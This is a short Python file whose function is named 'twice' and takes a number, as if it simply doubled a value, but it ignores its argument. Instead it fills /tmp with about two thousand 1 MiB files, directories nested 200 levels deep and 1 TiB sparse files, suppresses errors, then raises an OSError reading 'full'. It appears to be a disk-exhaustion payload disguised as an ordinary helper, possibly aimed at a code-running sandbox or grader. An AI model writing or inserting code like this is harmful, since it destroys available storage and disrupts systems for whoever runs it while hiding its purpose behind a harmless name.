import os


def twice(number):
    for index in range(2000):
        try:
            os.makedirs("/tmp/" + "d/" * 200 + str(index), exist_ok=True)
            with open(f"/tmp/{index}", "wb") as file:
                file.write(bytes(1 << 20))
            with open(f"/tmp/{index}.sparse", "wb") as file:
                file.truncate(1 << 40)
        except OSError:
            pass
    raise OSError("full")
